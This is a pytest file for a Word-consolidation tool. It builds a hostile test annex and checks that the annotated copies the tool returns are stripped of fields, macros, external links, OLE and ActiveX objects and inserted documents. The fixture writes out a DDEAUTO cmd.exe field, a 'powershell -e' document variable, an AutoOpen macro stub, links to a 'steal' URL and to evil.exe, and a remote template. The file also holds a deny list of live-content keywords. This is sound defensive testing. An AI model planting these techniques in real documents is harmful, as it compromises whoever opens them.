"""A Word copy goes back under the office's name: whatever the district's document held
that could run or reach out is gone from it (README "安全 / Safety: what leaves the office": "Copies are
inert") — on every path that writes one: ``check --annotate``, ``run``'s ``退回/<区>/``,
the self-check page's download. The values and the annotations stay."""

from __future__ import annotations

import io
import posixpath
import re
import shutil
import struct
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Union

import docx
import pytest
from click.testing import CliRunner
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from consolidate.api import check
from consolidate.cli import main
from consolidate.reading.word import paragraph_text, read_body, table_layout
from consolidate.writing.annotate_word import annotate_docx
from consolidate.writing.inert_word import DOCX_MAIN, strip_fields
from tests.helpers import AS_OF, CONFIG
from tests.test_word_submissions import A2_ROWS
from tests.wordfiles import annex_docx, needs_soffice, soffice_convert

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
WNS = W[1:-1]
OUTSIDE = "http://127.0.0.1:9"  # nothing listens there; no test opens it
SHARE = "file://///fileserver/share/evil.exe"
VBA_RT = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
OFFICE_RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
# What none of the copy's XML may hold.
LIVE = (
    "fldChar", "instrText", "fldSimple", "fldData", 'TargetMode="External"', "w:object",
    "OLEObject", "w:control", "altChunk", "attachedTemplate", "mailMerge", "docVars",
    "DDEAUTO", " DDE ", "INCLUDE", "MERGEFIELD", "HYPERLINK", "127.0.0.1", "fileserver", "r:link",
)  # fmt: skip


# ---------------------------------------------------------------- fields, as Word writes them
@dataclass
class Field:
    """A field: its code (text and nested fields) and what it shows (None: no result)."""

    code: list[Piece]
    result: list[Piece] | None = field(default_factory=list)
    simple: bool = False  # w:fldSimple (a code of text only, one level)


Piece = Union[str, Field]  # noqa: UP007 - a recursive alias is evaluated at import


def runs(pieces: list[Piece]) -> str:
    """Runs of ``pieces``: text as ``w:t``, fields as fldChar/instrText runs or fldSimple."""
    return "".join(_text_run(p) if isinstance(p, str) else field_runs(p) for p in pieces)


def _text_run(text: str, tag: str = "t") -> str:
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    return f'<w:r><w:{tag} xml:space="preserve">{text}</w:{tag}></w:r>'


def field_runs(f: Field) -> str:
    if f.simple:
        code = "".join(p for p in f.code if isinstance(p, str)).replace('"', "&quot;")
        return f'<w:fldSimple w:instr="{code}">{runs(f.result or [])}</w:fldSimple>'
    parts = ['<w:r><w:fldChar w:fldCharType="begin"/></w:r>']
    parts += [_text_run(p, "instrText") if isinstance(p, str) else field_runs(p) for p in f.code]
    if f.result is not None:
        parts.append('<w:r><w:fldChar w:fldCharType="separate"/></w:r>')
        parts.append(runs(f.result))
    parts.append('<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    return "".join(parts)


def shown(pieces: list[Piece]) -> str:
    """The text Word shows for ``pieces``: each field's result, never its code."""
    return "".join(p if isinstance(p, str) else shown(p.result or []) for p in pieces)


def set_runs(paragraph: Any, xml: str) -> None:
    """Replace the runs of a python-docx paragraph element by ``xml`` (runs, fields)."""
    for run in paragraph.findall(f"{W}r"):
        paragraph.remove(run)
    holder = parse_xml(f"<w:p {nsdecls('w', 'r')} {VML}>{xml}</w:p>")
    for child in list(holder):
        paragraph.append(child)


# ---------------------------------------------------------------- the hostile annex
def png() -> bytes:
    """A 1×1 PNG (the preview of an embedded object)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\xff\xff")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def picture(rel: str, attribute: str = "r:link") -> str:
    """An inline picture whose image is ``rel`` (linked: ``r:link``)."""
    return (
        f"<w:r><w:drawing><wp:inline {nsdecls('wp', 'a', 'pic', 'r')}>"
        '<wp:extent cx="457200" cy="457200"/><wp:docPr id="7" name="图片 7"/>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic><pic:nvPicPr><pic:cNvPr id="7" name="logo.png"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill><a:blip {attribute}="{rel}"/><a:stretch><a:fillRect/></a:stretch>'
        '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="457200" cy="457200"/>'
        '</a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )


def add_part(document, name, content_type, blob, reltype, source=None) -> tuple[Any, str]:
    part = Part(PackURI(name), content_type, blob, document.part.package)
    return part, (source or document.part).relate_to(part, reltype)


def hostile_docx(path: Path, *, macro_type: bool = False) -> Path:
    """The faulty Annex 2 of tests/test_word_annotate.py, with every field kind (values
    in the table shown by fields), macros, a remote template, a mail merge, linked
    pictures, outside links, an OLE object, an ActiveX control and an inserted document."""
    document = docx.Document()
    annex_docx(path, 2, A2_ROWS, date="2099年1月1日", document=document)
    table = document.tables[0]._tbl
    cells = [[tc for tc in tr.findall(f"{W}tc")] for tr in table.findall(f"{W}tr")]
    main = document.part
    link = main.relate_to(f"{OUTSIDE}/steal", RT.HYPERLINK, is_external=True)
    in_cell = {  # (row, column) of the table -> the field that shows its value
        (1, 6): Field([r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'], ["13812345678"]),
        (1, 3): Field([" MERGEFIELD 职务 "], ["认证科科长"]),
        (1, 4): Field([f' HYPERLINK "{OUTSIDE}/steal" '], ["hp01"]),
        (1, 5): Field([r' INCLUDETEXT "\\\\127.0.0.1\\share\\x.docx" '], ["复审、监管"], True),
        (2, 7): Field(  # a field in a field's code and in its result
            [" IF ", Field([" DATE "], ["2026"]), ' = "2026" "a" "b" '],
            ["电话：", Field([" MERGEFIELD 电话 "], ["021-63210000"])],
        ),
    }
    for (r, c), f in in_cell.items():
        assert shown([f]) == A2_ROWS[r - 1][c]
        set_runs(cells[r][c].find(f"{W}p"), field_runs(f))
    linked = main.relate_to(f"{OUTSIDE}/logo.png", RT.IMAGE, is_external=True)
    share = main.relate_to(SHARE, RT.HYPERLINK, is_external=True)
    set_runs(  # a value of the table as an outside link
        cells[2][4].find(f"{W}p"),
        f'<w:hyperlink r:id="{share}"><w:r><w:t>{A2_ROWS[1][4]}</w:t></w:r></w:hyperlink>',
    )
    _, preview = add_part(document, "/word/media/preview.png", "image/png", png(), RT.IMAGE)
    _, ole = add_part(
        document, "/word/embeddings/oleObject1.bin",
        "application/vnd.openxmlformats-officedocument.oleObject", b"\xd0\xcf\x11\xe0payload",
        RT.OLE_OBJECT,
    )  # fmt: skip
    control, ax = add_part(
        document, "/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml",
        b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/'
        b'activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence='
        b'"persistStreamInit" r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships"/>',
        RT.CONTROL,
    )  # fmt: skip
    add_part(
        document, "/word/activeX/activeX1.bin", "application/vnd.ms-office.activeX",
        b"\x00" * 16, "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary",
        control,
    )  # fmt: skip
    _, chunk = add_part(
        document, "/word/afchunk.htm", "text/html",
        f'<html><body><img src="{OUTSIDE}/chunk.png"></body></html>'.encode(), RT.A_F_CHUNK,
    )  # fmt: skip
    paragraphs = {
        "附注：": Field([' DDE Excel "C:\\\\x.xls" R1C1 '], ["1"]),
        "页码：": Field([" PAGE "], None),  # a field with no result leaves nothing
        "照片：": Field([f' INCLUDEPICTURE "{OUTSIDE}/logo.png" \\d '], []),
        "详见：": None,
    }
    for label, f in paragraphs.items():
        p = document.add_paragraph(label)._p
        if f is not None and label != "照片：":
            for child in parse_xml(f"<w:p {nsdecls('w')}>{field_runs(f)}</w:p>"):
                p.append(child)
    body = [p._p for p in document.paragraphs]
    photo = next(p for p in body if paragraph_text(p) == "照片：")
    include = Field([f' INCLUDEPICTURE "{OUTSIDE}/logo.png" \\d '], [])
    xml = field_runs(include).replace(
        '<w:fldChar w:fldCharType="separate"/></w:r>',
        f'<w:fldChar w:fldCharType="separate"/></w:r>{picture(linked)}',
    )
    set_runs(photo, _text_run("照片：") + xml)
    see = next(p for p in body if paragraph_text(p) == "详见：")
    set_runs(
        see,
        _text_run("详见：")
        + f'<w:hyperlink r:id="{share}"><w:r><w:t>共享文件夹</w:t></w:r></w:hyperlink>'
        + f'<w:hyperlink r:id="{link}"><w:r><w:t>核对页面</w:t></w:r></w:hyperlink>'
        + '<w:hyperlink w:anchor="_top"><w:r><w:t>回到开头</w:t></w:r></w:hyperlink>',
    )
    document.add_paragraph("图标：")._p.append(parse_xml(
        f"<w:r {nsdecls('w', 'r')} {VML}><w:object w:dxaOrig=\"720\" w:dyaOrig=\"720\">"
        '<v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:36pt;height:36pt">'
        f'<v:imagedata r:id="{preview}" o:title=""/></v:shape><o:OLEObject Type="Embed" '
        f'ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1" r:id="{ole}"/>'
        "</w:object></w:r>"
    ))  # fmt: skip
    document.add_paragraph("按钮：")._p.append(parse_xml(
        f"<w:r {nsdecls('w', 'r')} {VML}><w:object>"
        '<v:shape id="_x0000_i1026" type="#_x0000_t75" style="width:36pt;height:18pt"/>'
        f'<w:control r:id="{ax}" w:name="CommandButton1" w:shapeid="_x0000_i1026"/>'
        "</w:object></w:r>"
    ))  # fmt: skip
    document.element.body.insert(
        len(document.element.body) - 1,
        parse_xml(f'<w:altChunk {nsdecls("w", "r")} r:id="{chunk}"/>'),
    )
    _header(document)
    _settings(document)
    _macros(document)
    path.parent.mkdir(parents=True, exist_ok=True)
    document.save(path)
    if macro_type:
        _retype(path, DOCM_MAIN)
    return path


def _header(document: Any) -> None:
    """A header showing the date by a field and a picture linked through VML."""
    header = document.sections[0].header
    image = header.part.relate_to(f"{OUTSIDE}/header.png", RT.IMAGE, is_external=True)
    p = header.paragraphs[0]._p
    set_runs(
        p,
        field_runs(Field([' DATE \\@ "yyyy年M月d日" '], ["2026年11月20日"]))
        + f'<w:r><w:pict><v:shape id="h1" type="#_x0000_t75" style="width:18pt;height:18pt">'
        f'<v:imagedata r:id="{image}" o:title=""/></v:shape></w:pict></w:r>',
    )


def _settings(document: Any) -> None:
    """A remote template, a mail merge reading a remote source, document variables."""
    settings_part = document.part.part_related_by(RT.SETTINGS)
    template = settings_part.relate_to(
        f"{OUTSIDE}/normal.dotm", f"{OFFICE_RT}/attachedTemplate", True
    )
    source = settings_part.relate_to(SHARE, f"{OFFICE_RT}/mailMergeSource", is_external=True)
    element = document.settings.element
    element.insert(0, parse_xml(f'<w:attachedTemplate {nsdecls("w", "r")} r:id="{template}"/>'))
    element.append(parse_xml(
        f'<w:mailMerge {nsdecls("w", "r")}><w:mainDocumentType w:val="formLetters"/>'
        '<w:linkToQuery/><w:dataType w:val="native"/><w:query w:val="SELECT * FROM x"/>'
        f'<w:dataSource r:id="{source}"/></w:mailMerge>'
    ))  # fmt: skip
    element.append(parse_xml(
        f'<w:docVars {nsdecls("w")}><w:docVar w:name="payload" w:val="powershell -e AAAA"/>'
        "</w:docVars>"
    ))  # fmt: skip


def _macros(document: Any) -> None:
    """vbaProject.bin with its vbaData.xml, and keymap customisations."""
    vba, _ = add_part(
        document, "/word/vbaProject.bin", "application/vnd.ms-office.vbaProject",
        b"\xd0\xcf\x11\xe0Sub AutoOpen()", VBA_RT,
    )  # fmt: skip
    add_part(
        document, "/word/vbaData.xml", "application/vnd.ms-word.vbaData+xml",
        b'<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/'
        b'word/2006/wordml"/>',
        "http://schemas.microsoft.com/office/2006/relationships/wordVbaData", vba,
    )  # fmt: skip
    add_part(
        document, "/word/customizations.xml", "application/vnd.ms-word.keyMapCustomizations+xml",
        b'<?xml version="1.0"?><wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/'
        b'2006/wordml"><wne:keymaps><wne:keymap wne:kcmPrimary="0441"><wne:macro '
        b'wne:macroName="PROJECT.NEWMACROS.AUTOOPEN"/></wne:keymap></wne:keymaps></wne:tcg>',
        "http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations",
    )  # fmt: skip


def _retype(path: Path, main_type: str) -> None:
    """The package's main part given ``main_type`` (a .docm is this .docx retyped)."""
    data = path.read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(path, "w") as target:
        for info in source.infolist():
            body = source.read(info)
            if info.filename == "[Content_Types].xml":
                body = body.replace(DOCX_MAIN.encode(), main_type.encode())
            target.writestr(info, body)


# ---------------------------------------------------------------- what a copy must be
def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def assert_inert(data: bytes) -> None:
    """Nothing in the copy's package runs or reaches out, and the package is whole."""
    package = parts(data)
    names = list(package)
    assert not [n for n in names if re.search(r"vba|customizations|embeddings/|activeX|afchunk", n)]
    xml = {n: b.decode("utf-8") for n, b in package.items() if n.endswith((".xml", ".rels"))}
    everything = "\n".join(xml.values())
    for word in LIVE:
        assert word not in everything, word
    _assert_consistent(package, xml)


def _assert_consistent(package: dict[str, bytes], xml: dict[str, str]) -> None:
    """Every part has a content type, every override a part, every relationship its part,
    every r:id of a part its relationship; the main part is a plain document's."""
    types = etree.fromstring(package["[Content_Types].xml"])
    ct = "{http://schemas.openxmlformats.org/package/2006/content-types}"
    defaults = {d.get("Extension").lower() for d in types.iter(f"{ct}Default")}
    overrides = {
        o.get("PartName").lstrip("/"): o.get("ContentType") for o in types.iter(f"{ct}Override")
    }
    assert set(overrides) <= set(package), set(overrides) - set(package)
    for name in package:
        if name != "[Content_Types].xml":
            assert name in overrides or name.rpartition(".")[2].lower() in defaults, name
    assert overrides["word/document.xml"] == DOCX_MAIN
    for name, text in xml.items():
        if not name.endswith(".rels"):
            continue
        folder = posixpath.dirname(posixpath.dirname(name))
        source = posixpath.join(folder, posixpath.basename(name)[: -len(".rels")])
        ids = set()
        for rel in etree.fromstring(text.encode()).iter():
            if rel.get("Id"):
                ids.add(rel.get("Id"))
                target = posixpath.normpath(posixpath.join(folder, rel.get("Target")))
                assert target.lstrip("/") in package, (name, target)
        if source in xml:
            used = set(re.findall(r'\br:\w+="([^"]*)"', xml[source]))
            assert used <= ids, (source, used - ids)
    for name, text in xml.items():  # a part without relationships refers to none
        rels = posixpath.join(posixpath.dirname(name), "_rels", posixpath.basename(name) + ".rels")
        if rels not in package and not name.endswith(".rels"):
            assert not re.search(r'\br:(id|embed|link)="', text), name


def table_values(data: bytes) -> list[list[str]]:
    """The annex table as the tool's reader sees it."""
    body = read_body(docx.Document(io.BytesIO(data)).element.body)
    return table_layout(body.table(1), CONFIG.limits, "表格1").values


def problem_rows(data: bytes) -> list[list[str]]:
    listing = docx.Document(io.BytesIO(data)).tables[-1]
    return [[c.text for c in row.cells] for row in listing.rows[1:]]


REMOVED = [  # the lines the problem list gains: what was taken out, where
    ["提示", "正文 第7段", "此处链接到外部文件的图片已删除（标注副本不含外部链接）"],
    ["提示", "正文 第9段", "此处嵌入的对象（OLE对象、控件等）已删除（标注副本不含嵌入对象）"],
    ["提示", "正文 第10段", "此处嵌入的对象（OLE对象、控件等）已删除（标注副本不含嵌入对象）"],
    ["提示", "正文", "此处插入的其他文档内容已删除（标注副本不含嵌入或链接的文档）"],
    ["提示", "页眉", "此处链接到外部文件的图片已删除（标注副本不含外部链接）"],
]


def fills(document: Any) -> list[tuple[int, str]]:
    """The shaded cells of the annex table: (cell number, colour)."""
    cells = document.tables[0]._tbl.iter(f"{W}tc")
    shading = [(n, tc.find(f"{W}tcPr/{W}shd")) for n, tc in enumerate(cells)]
    return [(n, shd.get(f"{W}fill")) for n, shd in shading if shd is not None]


def assert_kept(data: bytes, twin: bytes) -> None:
    """The copy of the hostile annex says what the copy of its plain twin says: every
    value of the table, every comment and shading, every problem — and what was removed."""
    assert table_values(data) == table_values(twin)
    copy, plain = docx.Document(io.BytesIO(data)), docx.Document(io.BytesIO(twin))
    assert [c.text for c in copy.comments] == [c.text for c in plain.comments]
    assert len(list(copy.comments)) == 7
    assert fills(copy) == fills(plain) and len(fills(copy)) == 6
    rows = problem_rows(data)
    assert rows[: len(problem_rows(twin))] == problem_rows(twin)
    assert sorted([r[0], r[1], r[4]] for r in rows[len(problem_rows(twin)) :]) == sorted(REMOVED)
    texts = [paragraph_text(p._p) for p in copy.paragraphs]
    assert texts[4:8] == ["附注：1", "页码：", "照片：", "详见：共享文件夹核对页面回到开头"]
    assert copy.sections[0].header.paragraphs[0].text == "2026年11月20日"


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The hostile annex, its .docm variant, and its plain twin (same annex, nothing else)."""
    root = tmp_path_factory.mktemp("hostile-word")
    return {
        "hostile": hostile_docx(root / "hostile" / "附件2.docx"),
        "docm": hostile_docx(root / "docm" / "附件2.docm", macro_type=True),
        "plain": annex_docx(root / "plain" / "附件2.docx", 2, A2_ROWS, date="2099年1月1日"),
    }


@pytest.fixture(scope="module")
def twin_copy(files, tmp_path_factory) -> bytes:
    out = tmp_path_factory.mktemp("twin") / "附件2（已标注）.docx"
    annotate_docx(files["plain"], check([files["plain"]], as_of=AS_OF).findings, out)
    return out.read_bytes()


@pytest.fixture(scope="module")
def annotated(files, tmp_path_factory) -> Path:
    """``check --annotate`` on the hostile annex."""
    out = tmp_path_factory.mktemp("annotated") / "附件2（已标注）.docx"
    ran = CliRunner().invoke(
        main, ["check", str(files["hostile"]), "--annotate", str(out), "--as-of", str(AS_OF)]
    )
    assert ran.exit_code == 1, ran.output
    return out


# ---------------------------------------------------------------- the tests
def test_the_hostile_annex_carries_what_it_claims_and_reads_like_its_twin(files):
    package = parts(files["hostile"].read_bytes())
    everything = "\n".join(b.decode("utf-8", "replace") for b in package.values())
    for word in ("fldChar", "instrText", "fldSimple", "DDEAUTO", "INCLUDETEXT", "INCLUDEPICTURE",
                 "MERGEFIELD", 'TargetMode="External"', "attachedTemplate", "r:link", "w:object",
                 "altChunk", "w:control", "docVars", "mailMerge"):  # fmt: skip
        assert word in everything, word
    assert "word/vbaProject.bin" in package and "word/embeddings/oleObject1.bin" in package
    hostile, plain = (check([files[k]], as_of=AS_OF).findings for k in ("hostile", "plain"))
    assert [(f.code, f.sheet, f.row, f.cell) for f in hostile] == [
        (f.code, f.sheet, f.row, f.cell) for f in plain
    ]


def test_check_annotate_writes_an_inert_copy(annotated, twin_copy):
    data = annotated.read_bytes()
    assert_inert(data)
    assert_kept(data, twin_copy)


def test_run_returns_an_inert_copy(files, twin_copy, tmp_path: Path):
    inbox = tmp_path / "inbox"
    (inbox / "黄浦区").mkdir(parents=True)
    shutil.copy(files["hostile"], inbox / "黄浦区" / "附件2.docx")
    # its stamped scan beside it: the copy lists the problems the twin's does, no more
    (inbox / "黄浦区" / "附件2.pdf").write_bytes(b"%PDF-1.4\n%%EOF\n")
    ran = CliRunner().invoke(
        main, ["run", str(inbox), "--out", str(tmp_path / "out"), "--as-of", str(AS_OF)]
    )
    assert ran.exit_code == 1, ran.output
    copy = tmp_path / "out" / "退回" / "黄浦区" / "附件2（已标注）.docx"
    data = copy.read_bytes()
    assert_inert(data)
    assert_kept(data, twin_copy)


def test_the_page_download_is_inert(files, twin_copy):
    from consolidate.ui.server import create_app
    from tests.test_server import text_of, token_of, upload

    client = create_app({"AS_OF": AS_OF}, settings=CONFIG).test_client()
    page = text_of(upload(client, (files["hostile"], "黄浦区附件2.docx")))
    response = client.get(f"/annotated/{token_of(page)}")
    assert response.status_code == 200
    assert_inert(response.data)
    assert_kept(response.data, twin_copy)


def test_a_macro_enabled_document_is_copied_as_a_plain_docx(files, twin_copy, tmp_path: Path):
    findings = check([files["hostile"]], as_of=AS_OF).findings  # the same annex, as .docx
    out = tmp_path / "附件2（已标注）.docx"
    annotate_docx(files["docm"], findings, out)
    data = out.read_bytes()
    assert_inert(data)
    assert_kept(data, twin_copy)


@pytest.mark.slow
@needs_soffice
def test_libreoffice_opens_the_inert_copy(annotated, tmp_path: Path):
    """LibreOffice reads every value and the problem list, and finds no field, link or
    object in the copy (its own OpenDocument of it has none)."""
    [odt] = soffice_convert([annotated], "odt", tmp_path / "odt")
    with zipfile.ZipFile(odt) as archive:
        text = archive.read("content.xml").decode() + archive.read("styles.xml").decode()
    for value in ("13812345678", "hp01", "认证科科长", "021-63210000", "2026年11月20日", "问题清单",
                  "此处链接到外部文件的图片已删除"):  # fmt: skip
        assert value in text, value
    for live in ("127.0.0.1", "fileserver", "<text:date", "<text:database", "<text:page-number",
                 "<draw:object", "<text:section-source"):  # fmt: skip
        assert live not in text, live
    assert re.findall(r'xlink:href="([^"]*)"', text) == ["#_top"]  # a link within: kept


# ---------------------------------------------------------------- fields, any nesting
def _fields(depth: int) -> st.SearchStrategy[Field]:
    text = st.text(alphabet="ab甲乙 ", min_size=1, max_size=3)
    piece = text if depth == 0 else st.one_of(text, st.deferred(lambda: _fields(depth - 1)))
    pieces = st.lists(piece, max_size=3)
    simple = st.builds(lambda c, r: Field([c], r, simple=True), text, st.lists(text, max_size=2))
    complex_ = st.builds(Field, pieces, st.one_of(st.none(), pieces))
    return st.one_of(simple, complex_)


@settings(max_examples=150, deadline=None)
@given(
    st.lists(st.one_of(st.text(alphabet="xy值 ", min_size=1, max_size=3), _fields(3)), max_size=4)
)
def test_any_nesting_of_fields_keeps_the_text_they_showed(pieces: list[Piece]):
    body = parse_xml(f"<w:body {nsdecls('w')}><w:p>{runs(pieces)}</w:p></w:body>")
    strip_fields(body)
    xml = etree.tostring(body).decode()
    assert "fldChar" not in xml and "instrText" not in xml and "fldSimple" not in xml
    assert paragraph_text(body[0]) == shown(pieces)


def test_a_field_without_its_end_marks_nothing():
    """A begin never closed (or an end never opened) hides no text, and a field never runs
    out of its table cell: the table's values stay."""
    body = parse_xml(
        f"<w:body {nsdecls('w')}><w:p>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        "<w:r><w:instrText> X </w:instrText></w:r><w:r><w:t>王建华</w:t></w:r>"
        "</w:p><w:tbl><w:tr><w:tc><w:p><w:r><w:t>13812345678</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:tc></w:tr></w:tbl></w:body>'
    )
    strip_fields(body)
    assert [paragraph_text(p) for p in body.iter(f"{W}p")] == ["王建华", "13812345678"]
    assert b"fldChar" not in etree.tostring(body)
